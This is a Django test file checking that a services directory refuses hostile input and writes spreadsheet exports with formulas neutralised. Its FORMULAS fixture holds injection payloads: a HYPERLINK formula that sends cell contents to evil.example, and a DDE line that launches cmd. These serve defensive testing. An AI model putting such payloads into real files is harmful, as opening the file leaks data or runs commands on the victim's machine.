"""Hostile input on the directory (issue 10 §3–4): the step buttons refuse bad input with a 4xx
and write nothing, the API refuses unknown fields and values past their column, exports never
write a formula, and imported files follow the upload policy."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from smenet.api.testing import problem
from smenet.common import uploads
from smenet.services_directory.choices import ReviewStatus
from smenet.services_directory.models import Service
from smenet.services_directory.tabular import services_csv, services_xlsx

from .factories import ServiceFactory

pytestmark = pytest.mark.django_db
HOSTILE = "ab\x00cd"
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")


@pytest.fixture
def draft(world):
    return ServiceFactory(institution=world["a"], review_status=ReviewStatus.DRAFT)


def _state(service: Service) -> tuple:
    service.refresh_from_db()
    return service.version, service.review_status, service.status, service.history.count()


@pytest.mark.parametrize(
    "data",
    [
        {"step": HOSTILE},
        {"step": "submit\u202e"},
        {"step": "submit", "next": HOSTILE},
        {"step": "submit", "next": "x" * 501},
        {"step": "submit", "unexpected": HOSTILE},
        {"step": "launch"},
        {"step": "return", "comment": ""},
    ],
    ids=[
        "nul-step",
        "rlo-step",
        "nul-next",
        "long-next",
        "unknown-field",
        "unknown-step",
        "return-empty",
    ],
)
def test_a_step_with_bad_input_is_a_400_and_writes_nothing(client, world, draft, data):
    client.force_login(world["sec"] if data["step"] == "return" else world["fa"])
    before = _state(draft)
    response = client.post(f"/services/{draft.pk}/step/", data)
    assert response.status_code == 400, response.status_code
    assert _state(draft) == before
    assert "Nothing was saved" in response.content.decode()


def test_a_refused_step_is_a_4xx_page_not_a_redirect(client, world, draft):
    client.force_login(world["fa"])
    before = _state(draft)
    response = client.post(f"/services/{draft.pk}/step/", {"step": "restore"})  # not archived
    assert 400 <= response.status_code < 500 and response.status_code != 404
    assert _state(draft) == before


def test_a_good_step_still_runs_and_redirects(client, world, draft):
    client.force_login(world["fa"])
    response = client.post(f"/services/{draft.pk}/step/", {"step": "submit"})
    assert response.status_code == 302
    draft.refresh_from_db()
    assert draft.review_status == ReviewStatus.SUBMITTED


def test_another_institutions_service_is_still_a_404(client, world, draft):
    client.force_login(world["fb"])
    assert client.post(f"/services/{draft.pk}/step/", {"step": HOSTILE}).status_code == 404


@pytest.mark.parametrize(
    "body, field",
    [
        ({"titel": {"en": "Typo"}}, "titel"),
        ({"title": {"en": "x" * 301}}, "title"),
        ({"title": {"english": "Title"}}, "title"),
        ({"cost_currency": "EURO"}, "cost_currency"),
        ({"sizes": ["x" * 13]}, "sizes"),
        ({"version": 2**63}, "version"),
    ],
)
def test_api_refuses_unknown_fields_and_values_past_their_column(
    as_user, world, draft, body, field
):
    before = _state(draft)
    client = as_user(world["fa"])
    payload = {"version": draft.version, **body}
    response = client.patch(f"/api/v1/services/{draft.pk}/", payload, format="json")
    assert response.status_code == 400, response.content
    assert field in problem(response)["errors"]
    assert _state(draft) == before
    created = client.post(
        "/api/v1/services/",
        {"institution": world["a"].slug, "category": "training", "title": {"en": "T"}, **body},
        format="json",
    )
    if field != "version":
        assert created.status_code == 400 and field in problem(created)["errors"]
    assert Service.objects.count() == 1


def test_api_return_and_archive_bodies_are_strict(as_user, world, draft):
    before = _state(draft)
    sec = as_user(world["sec"])
    response = sec.post(
        f"/api/v1/services/{draft.pk}/return/", {"comment": "ok", "x": 1}, format="json"
    )
    assert response.status_code == 400 and "x" in problem(response)["errors"]
    fa = as_user(world["fa"])
    response = fa.post(f"/api/v1/services/{draft.pk}/archive/", {"version": 2**40}, format="json")
    assert response.status_code == 400 and "version" in problem(response)["errors"]
    assert _state(draft) == before


@pytest.fixture
def booby_trapped(world):
    return ServiceFactory(
        institution=world["a"],
        texts={
            "title": {"en": FORMULAS[0]},
            "summary": {"en": FORMULAS[1]},
            "details": {"en": FORMULAS[2]},
            "regions": {"en": FORMULAS[3]},
        },
        apply_phone="+994 12 000 00 00",
        cost="fee",
        cost_amount="5",
        cost_currency="EUR",
    )


def test_csv_export_writes_no_formula(client, booby_trapped):
    for url in ("/services/export.csv", "/api/v1/services/export/?file_format=csv"):
        response = client.get(url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [v for row in rows for v in row.values()]
        assert {"'" + f for f in FORMULAS} <= set(cells)
        assert "'+994 12 000 00 00" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2")]


def test_xlsx_export_writes_text_cells_never_formulas(client, booby_trapped):
    response = client.get("/services/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULAS[0] in [c.value for c in cells]  # kept exactly, as text


def test_export_formulas_import_back_unchanged(world, booby_trapped, tmp_path):
    from smenet.services_directory.importer import import_services

    items = list(Service.objects.with_related().order_by("pk"))
    for name, content in (("a.csv", services_csv(items)), ("a.xlsx", services_xlsx(items))):
        path = tmp_path / name
        path.write_bytes(content)
        assert import_services(path).unchanged == 1
    booby_trapped.refresh_from_db()
    assert booby_trapped.safe_translation_getter("title", language_code="en") == FORMULAS[0]


@pytest.mark.parametrize(
    "upload, code",
    [
        (SimpleUploadedFile("services.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20), "content"),
        (SimpleUploadedFile("services.exe", b"ref,institution\n"), "type"),
        (SimpleUploadedFile("services.xlsx", b"ref,institution\n"), "content"),
        (SimpleUploadedFile("services.csv", b""), "empty"),
    ],
    ids=["png-named-csv", "exe", "csv-named-xlsx", "empty"],
)
def test_import_page_applies_the_upload_policy(client, world, upload, code):
    from smenet.jobs.models import Job

    client.force_login(world["fa"])
    response = client.post("/services/import/", {"file": upload})
    assert response.status_code == 400
    assert Job.objects.count() == 0
    text = response.content.decode()
    assert {"content": "is not a", "type": "are not accepted", "empty": "empty"}[code] in text


def test_import_page_refuses_a_file_over_the_cap(client, world, settings):
    from smenet.jobs.models import Job

    settings.SMENET_MAX_UPLOAD_BYTES = 100
    client.force_login(world["fa"])
    upload = SimpleUploadedFile("services.csv", b"ref,institution,category\n" + b"x" * 200)
    response = client.post("/services/import/", {"file": upload})
    assert response.status_code == 400
    assert Job.objects.count() == 0
    assert uploads.policy("import").max_bytes == 100


def test_a_nul_cell_is_an_error_naming_line_and_column(world, tmp_path):
    from smenet.services_directory.importer import ImportFailed, import_services

    path = tmp_path / "s.csv"
    path.write_bytes(
        f"ref,institution,category,title_en,title_tr\nx-1,{world['a'].slug},training,Ok,İyi\x00\n".encode()
    )
    with pytest.raises(ImportFailed) as exc:
        import_services(path)
    assert any("line 2" in e and "title_tr" in e for e in exc.value.errors), exc.value.errors
    assert not Service.objects.filter(ref="x-1").exists()
